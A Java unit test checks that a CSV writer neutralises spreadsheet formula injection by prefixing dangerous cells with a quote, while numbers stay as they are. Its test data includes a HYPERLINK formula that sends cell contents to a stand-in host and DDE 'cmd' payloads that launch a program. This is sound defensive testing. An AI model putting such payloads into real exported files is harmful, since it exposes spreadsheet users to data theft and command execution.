package dev.dunning.datasets.csv;

import static org.assertj.core.api.Assertions.assertThat;

import com.opencsv.CSVReader;
import com.opencsv.ICSVWriter;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What a spreadsheet would run as a formula is written as text; numbers, including negative ones, stay numbers. */
class FormulaSafeCsvTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = " => ", quoteCharacter = '`', textBlock = """
            =HYPERLINK("http://x.example/?"&A1;"Open") => '=HYPERLINK("http://x.example/?"&A1;"Open")
            +1+cmd|' /C calc'!A0 => '+1+cmd|' /C calc'!A0
            -2+3+cmd|' /C calc'!A0 => '-2+3+cmd|' /C calc'!A0
            @SUM(1;2) => '@SUM(1;2)
            -12.50 => -12.50
            +3 => +3
            1920.00 => 1920.00
            刘先生 => 刘先生
            BJ-0001 => BJ-0001
            """)
    void aCellThatWouldBeAFormulaGetsALeadingQuote(String cell, String written) {
        assertThat(FormulaSafeCsv.cell(cell)).isEqualTo(written);
    }

    @Test
    void tabsAndCarriageReturnsAtTheStartAreNeutralisedToo() {
        assertThat(FormulaSafeCsv.cell("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(FormulaSafeCsv.cell("\r=1+1")).isEqualTo("'\r=1+1");
        assertThat(FormulaSafeCsv.cell(null)).isNull();
        assertThat(FormulaSafeCsv.cell("")).isEmpty();
    }

    @Test
    void theWriterNeutralisesEveryCellAndAReaderGetsTheTextBack() throws Exception {
        StringWriter out = new StringWriter();
        try (ICSVWriter csv = FormulaSafeCsv.writer(out)) {
            csv.writeNext(new String[] {"accountId", "name", "totalDue"}, false);
            csv.writeNext(new String[] {"=1+1", "@evil, \"quoted\"", "-12.50"}, false);
        }
        assertThat(out.toString()).startsWith("accountId,name,totalDue\n'=1+1,");
        try (CSVReader reader = new CSVReader(new StringReader(out.toString()))) {
            List<String[]> rows = reader.readAll();
            assertThat(rows.get(1)).containsExactly("'=1+1", "'@evil, \"quoted\"", "-12.50");
        }
    }
}
